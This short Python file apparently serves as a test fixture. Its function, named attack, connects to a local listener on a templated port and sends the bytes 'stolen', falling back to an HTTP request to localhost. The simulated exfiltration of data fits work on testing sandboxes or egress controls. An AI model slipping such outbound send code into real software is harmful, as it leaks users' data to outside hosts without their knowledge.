"""Send the tests to a server."""

import socket
import urllib.request


def attack():
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        try:
            with socket.socket(family) as client:
                client.settimeout(1)
                client.connect((address, int("@PORT@")))
                client.sendall(b"stolen")
                return "connected"
        except OSError:
            continue
    return urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1).status
